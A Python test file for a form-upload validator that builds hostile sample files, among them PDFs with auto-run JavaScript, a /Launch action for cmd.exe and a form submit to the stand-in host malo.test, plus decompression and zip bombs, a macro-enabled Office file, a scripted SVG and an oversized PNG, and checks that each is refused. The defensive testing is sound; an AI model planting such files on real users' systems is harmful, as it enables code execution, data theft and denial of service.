"""Files that would act, or fill the memory, are refused for what they hold; the refusal has a remedy."""

import io
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
from pypdf.generic import TextStringObject as Text

from forms import uploads
from forms.errors import UploadRefused
from forms.fields.upload import REASONS
from forms.uploads.judging import clean_name

LIMIT = 10 * 1024 * 1024


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    return writer


def _action(**entries: str) -> DictionaryObject:
    kind = {"/Type": NameObject("/Action"), "/S": NameObject(entries.pop("S"))}
    return DictionaryObject(
        {NameObject(k): v for k, v in kind.items()}
        | {NameObject(f"/{name}"): Text(value) for name, value in entries.items()}
    )


def opens_with_script() -> bytes:
    writer = _page()
    writer.root_object[NameObject("/OpenAction")] = _action(S="/JavaScript", JS="app.alert(1)")
    return _written(writer)


def launches_a_program() -> bytes:
    writer = _page()
    writer.root_object[NameObject("/OpenAction")] = _action(S="/Launch", F="cmd.exe")
    return _written(writer)


def named_script() -> bytes:
    writer = _page()
    script = _action(S="/JavaScript", JS="this.submitForm('http://malo.test')")
    names = DictionaryObject({NameObject("/Names"): ArrayObject([Text("a"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return _written(writer)


def dynamic_form() -> bytes:
    writer = _page()
    packet = DecodedStreamObject()
    packet.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/XFA"): writer._add_object(packet),
            NameObject("/Fields"): ArrayObject(),
        }
    )
    return _written(writer)


def page_that_unpacks_without_end() -> bytes:
    """Some kilobytes of a page's content that unpack to 400 MB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(400)) + packer.flush()
    writer = _page()
    stream = DecodedStreamObject()
    stream.set_data(packed)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
    return _written(writer)


def _zip(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def office_file_with_macros() -> bytes:
    types = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return _zip(**{"[Content_Types].xml": types, "word__vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64})


def zip_bomb() -> bytes:
    return _zip(**{f"{number}.txt": b"0" * 1_000_000 for number in range(30)})


def _chunk(kind: bytes, data: bytes) -> bytes:
    checksum = zlib.crc32(kind + data).to_bytes(4, "big")
    return len(data).to_bytes(4, "big") + kind + data + checksum


def huge_picture() -> bytes:
    """40,000 by 40,000 points that a few bytes promise."""
    size = (40_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    data = zlib.compress(b"\0" * 100)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", size) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")
    )


DRAWING = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
HOSTILE = {
    "a script when it opens": (opens_with_script, "active"),
    "a script by name": (named_script, "active"),
    "a program that is launched": (launches_a_program, "active"),
    "a form that is a program": (dynamic_form, "active"),
    "a page that unpacks without end": (page_that_unpacks_without_end, "bounds"),
    "a file of Office with macros": (office_file_with_macros, "kind"),
    "an old file of Office": (lambda: OLD_OFFICE, "kind"),
    "a zip bomb": (zip_bomb, "kind"),
    "a drawing with a script": (lambda: DRAWING, "kind"),
    "a page after a comment": (lambda: b"<!-- x --><!doctype html><script>1</script>", "kind"),
    "a picture of 1.6 billion points": (huge_picture, "pixels"),
    "text that calls itself a PDF": (lambda: b"%PDF-1.7\n" + b"no es un PDF\n" * 50, "broken"),
}


@pytest.mark.parametrize(("make", "reason"), HOSTILE.values(), ids=HOSTILE.keys())
def test_it_is_refused_by_its_content(make, reason) -> None:
    with pytest.raises(UploadRefused) as refused:
        uploads.judge(make(), LIMIT)

    assert refused.value.reason == reason


@pytest.mark.parametrize("reason", sorted(REASONS))
def test_each_refusal_says_what_to_do(reason) -> None:
    what, _, remedy = REASONS[reason].partition(". ")
    if ":" in what:
        _, _, remedy = REASONS[reason].partition(":")

    assert remedy.strip()


def test_a_picture_with_a_page_behind_it_is_served_as_a_picture() -> None:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    mime = uploads.judge(out.getvalue() + b"<script>1</script>", LIMIT)

    assert (mime, clean_name("foto.html", mime)) == ("image/png", "foto.png")
